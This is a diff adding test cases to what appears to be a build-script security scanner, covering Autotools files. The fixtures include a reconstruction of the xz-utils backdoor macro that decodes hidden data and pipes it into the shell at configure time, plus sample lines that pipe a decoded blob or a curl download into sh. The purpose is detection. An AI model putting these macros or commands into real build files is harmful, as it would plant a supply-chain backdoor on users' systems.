@@ -181,3 +181,55 @@ publishing { repositories { maven {
     expect(buildFinding(makeFile('build.rs', { patch }))).toBeNull();
   });
 });
+
+describe('build-code-behavior: Autotools (the xz-utils backdoor, CVE-2024-3094)', () => {
+  // Modeled on the public analyses of build-to-host.m4 in the xz 5.6.0 release tarball: a macro
+  // finds a test file by a marker, maps its bytes back with tr, decompresses it with xz (named
+  // through a variable) and pipes the result into $SHELL when ./configure runs.
+  const BACKDOORED_MACRO = `
+AC_DEFUN([gl_BUILD_TO_HOST],
+[
+  gl_final_[$1]="$[$1]"
+  gl_[$1]_prefix=\`echo $gl_am_configmake | sed "s/.*\\.//g"\`
+  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
+  if test "x$gl_am_configmake" != "x"; then
+    gl_[$1]_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
+  else
+    gl_[$1]_config=''
+  fi
+  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_[$1] | $SHELL 2>/dev/null], [gl_config_[$1]="$gl_[$1]_config"])
+])`;
+
+  it('reads a macro that decompresses data and pipes it into the shell as critical', () => {
+    expect(kinds(BACKDOORED_MACRO, 'shell')).toEqual(expect.arrayContaining(['decode', 'pipe-to-shell']));
+    const finding = buildFinding(added('m4/build-to-host.m4', BACKDOORED_MACRO));
+    expect(finding).toMatchObject({ severity: 'critical', path: 'm4/build-to-host.m4', line: 7 });
+    expect(finding?.title).toBe('Autoconf macro decodes data and runs it as shell code when ./configure runs');
+    expect(finding?.detail).toContain('decompresses or decodes data (line 7');
+    expect(finding?.detail).toContain('pipes text it built into a shell or eval (line 7');
+  });
+
+  it('reads configure.ac and Makefile.am the same way, and a download piped to a shell there as before', () => {
+    expect(buildFinding(added('configure.ac', 'AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS([gen], [base64 -d "$srcdir/tests/data/blob.b64" | sh])'))).toMatchObject({ severity: 'critical', path: 'configure.ac' });
+    expect(buildFinding(added('src/Makefile.am', 'all-local:\n\tcat $(srcdir)/gen.sh.in | $(SHELL)'))).toMatchObject({ severity: 'medium', path: 'src/Makefile.am' });
+    expect(buildFinding(added('m4/fetch.m4', 'AC_DEFUN([X_FETCH], [curl -fsSL https://example.com/setup.sh | sh])'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('leaves ordinary Autotools work alone: eval of configure variables, unpacking with gzip -dc into a file, install -d, checks', () => {
+    const ordinary = `
+AC_DEFUN([AX_CHECK_VAR],
+[
+  eval ac_val=\\$$1
+  AS_IF([test "x$ac_val" = xyes], [AC_DEFINE([HAVE_X], [1], [Have X])])
+  $INSTALL -d "$prefix/share/x"
+  \${INSTALL} -d "$docdir"
+  gzip -dc "$srcdir/doc/manual.txt.gz" > manual.txt
+  xz -d -k tests/files/good-1.xz
+  $SHELL "$ac_aux_dir/config.sub" "$host"
+  AC_CHECK_LIB([z], [inflate])
+])`;
+    expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
+    expect(buildFinding(added('m4/ax_check_var.m4', ordinary))).toBeNull();
+    expect(buildFinding(added('configure.ac', 'AC_INIT([expat], [2.7.2])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT'))).toBeNull();
+  });
+});
